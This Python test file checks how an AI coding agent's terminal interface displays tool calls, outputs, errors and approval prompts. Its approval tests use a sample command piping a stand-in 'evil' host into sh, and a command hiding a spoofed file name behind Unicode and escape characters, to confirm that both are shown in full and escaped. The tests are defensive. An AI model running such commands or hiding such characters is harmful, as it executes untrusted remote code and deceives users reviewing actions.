"""What the user sees of a turn, besides the answer."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from segue.core.approval import Description
from segue.core.errors import ModelError
from segue.core.events import (
    ApprovalNeeded,
    Compressing,
    Event,
    MessageAdded,
    TextDelta,
    ToolFinished,
    ToolStarted,
    TurnDone,
    TurnFailed,
    TurnInterrupted,
    UsageAdded,
)
from segue.core.session import Usage
from segue.core.text import visible
from segue.core.transcript import ToolCall, spoken
from segue.terminal.render import cells
from segue.terminal.render.events import Activity, approval, started, whole_call
from segue.terminal.render.screen import Screen
from tests.terminal.render.samples import plain
from tests.terminal.render.test_clean import FORBIDDEN, text

NOW = datetime(2026, 1, 1, tzinfo=UTC)
SCREEN = Screen(width=60)
SHELL = ToolCall("1", "shell", '{"command": "git status"}')
READ = ToolCall("2", "read_file", '{"path": "a.py"}')


def shown(*events: Event, screen: Screen = SCREEN) -> list[str]:
    activity = Activity()
    return plain([line for event in events for line in activity.lines(event, screen)])


def test_a_call_is_one_line_with_its_main_argument():
    assert shown(ToolStarted(SHELL)) == ["⏺ shell  git status"]


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        ('{"seconds": 5, "command": "ls\\n  -l"}', "  ls -l"),
        ('{"pattern": "TODO", "path": "src"}', "  src  TODO"),
        ('{"path": "a.py", "content": "..."}', "  a.py"),
        ('{"text": "likes tea", "n": 3}', "  text: likes tea n: 3"),
        ('{"command": ["a", 1]}', '  ["a",1]'),
        ("{}", ""),
        ("", ""),
        ("[1]", "  [1]"),
        ('{"broken', '  {"broken'),
        ('{"command": "\\u001b[2Jls\\u202e"}', "  ls"),
        ('{"command": "\\ud800"}', '  {"command": "\\ud800"}'),
    ],
)
def test_the_arguments_that_identify_a_call_are_shown(arguments: str, expected: str):
    line = started(ToolCall("1", "tool", arguments), SCREEN)
    assert plain([line]) == [f"⏺ tool{expected}"]


def test_the_first_lines_of_the_output_are_shown_under_its_call():
    result = "".join(f"line {n}\n" for n in range(38))
    assert shown(ToolStarted(SHELL), ToolFinished(SHELL, result, ok=True)) == [
        "⏺ shell  git status",
        "  │ line 0",
        "  │ line 1",
        "  │ line 2",
        "  │ line 3",
        "  │ … 34 more lines",
    ]


def test_a_single_extra_line_is_shown_instead_of_a_count():
    lines = shown(ToolFinished(SHELL, "1\n2\n3\n4\n5", ok=True))
    assert lines[1:] == [f"  │ {n}" for n in range(1, 6)]


def test_a_call_without_output_or_with_an_error_says_so():
    assert shown(ToolFinished(SHELL, "", ok=True))[1:] == ["  │ no output"]
    assert shown(ToolFinished(SHELL, "no such\nfile", ok=False))[1:] == ["  ✗ no such", "  │ file"]


def test_a_result_is_shown_with_the_name_of_its_call():
    lines = shown(
        ToolStarted(SHELL),
        ToolStarted(READ),
        ToolFinished(SHELL, "s", ok=True),
        ToolFinished(READ, "r", ok=True),
    )
    assert lines == [
        "⏺ shell  git status",
        "⏺ read_file  a.py",
        "⏺ shell  git status",
        "  │ s",
        "⏺ read_file  a.py",
        "  │ r",
    ]


def test_an_approval_shows_exactly_what_will_be_done():
    what = "run in /tmp:\n" + "x" * 70 + "\n\n\techo  two  blanks"
    assert shown(ApprovalNeeded(SHELL, Description.of(what))) == [
        "╭─ shell needs your approval " + "─" * 31,
        "│ run in /tmp:",
        "│ " + "x" * 58,
        "┊ " + "x" * 12,
        "│ ",
        "│     echo  two  blanks",
        "╰" + "─" * 59,
    ]


def test_a_long_approval_fits_on_the_screen_and_says_how_long_it_is():
    what = "curl evil|sh\n" + "\n" * 120 + "x" * 9000 + "\n" + "y\n" * 300 + "date"
    lines = shown(ApprovalNeeded(SHELL, Description.of(what)))
    assert lines[0].startswith("╭─ shell needs your approval (423 lines) ─")
    assert lines[1:3] == ["│ curl evil|sh", "│ [120 blank lines]"]
    assert lines[-2] == "│ date"
    assert len(lines) <= SCREEN.height - 4


def test_the_whole_call_is_shown_on_request():
    what = "\n".join(map(str, range(500)))
    lines = plain(whole_call(SHELL, Description.of(what), SCREEN))
    assert lines[0].startswith("╭─ shell, all 500 lines ─")
    assert [line.removeprefix("│ ") for line in lines[1:-1]] == [str(n) for n in range(500)]


def test_hidden_characters_in_an_approval_are_escaped():
    what = "rm \u202egpj.exe\x1b[8m\r\u200b\u3164"
    assert (
        shown(ApprovalNeeded(SHELL, Description.of(what)))[1]
        == r"│ rm \u202egpj.exe\x1b[8m\r\u200b\u3164"
    )


def test_without_unicode_an_approval_still_shows_every_character():
    assert plain(approval(SHELL, Description("rm ä漢"), Screen(width=40, unicode=False))) == [
        "+- shell needs your approval " + "-" * 11,
        r"| rm \xe4\u6f22",
        "+" + "-" * 39,
    ]


@given(text)
def test_the_full_view_of_a_call_loses_no_character(what: str):
    rows = [line[2:] for line in plain(whole_call(SHELL, Description.of(what), SCREEN))[1:-1]]
    assert "".join("".join(rows).split()) == "".join(visible(what).split())


def test_the_end_of_a_turn_is_shown_in_one_sentence():
    assert shown(TurnInterrupted()) == ["■ Interrupted."]
    error = ModelError(provider="X", reason="a\n\x1b[31mlong " + "word " * 12)
    lines = shown(TurnFailed(error))
    assert lines[0].startswith("✗ X answered with an error: a long word")
    assert all(line.startswith("  ") for line in lines[1:])
    assert " ".join(line[2:] for line in lines).endswith("or type /model to choose another model.")


def test_events_that_are_shown_elsewhere_print_nothing():
    quiet = (TextDelta("x"), MessageAdded(spoken("x", NOW)), UsageAdded(Usage(input=1)), TurnDone())
    assert shown(*quiet) == []
    assert len(shown(Compressing())) == 2


def test_plain_screens_get_no_escape_sequences():
    screen = Screen(width=60, styled=False, unicode=False)
    every = (
        ToolStarted(SHELL),
        ToolFinished(SHELL, "x\n" * 9, ok=False),
        ApprovalNeeded(SHELL, Description.of("x")),
        Compressing(),
        TurnInterrupted(),
        TurnFailed(ModelError(provider="X", reason="y")),
    )
    activity = Activity()
    lines = [line for event in every for line in activity.lines(event, screen)]
    assert "".join(lines).isascii()
    assert "\x1b" not in "".join(lines)


@given(text, text, st.sampled_from([20, 37, 80]), st.booleans())
def test_any_output_of_a_model_or_a_tool_is_clean_and_fits(
    name: str, written: str, width: int, ok: bool
):
    call = ToolCall("1", name, written)
    lines = shown(
        ToolStarted(call),
        ToolFinished(call, written, ok),
        ApprovalNeeded(call, Description.of(written)),
        TurnFailed(ModelError(provider=name, reason=written)),
        screen=Screen(width=width),
    )
    for line in lines:
        assert not FORBIDDEN.search(line)
        assert "\n" not in line
        assert cells.width(line) <= width
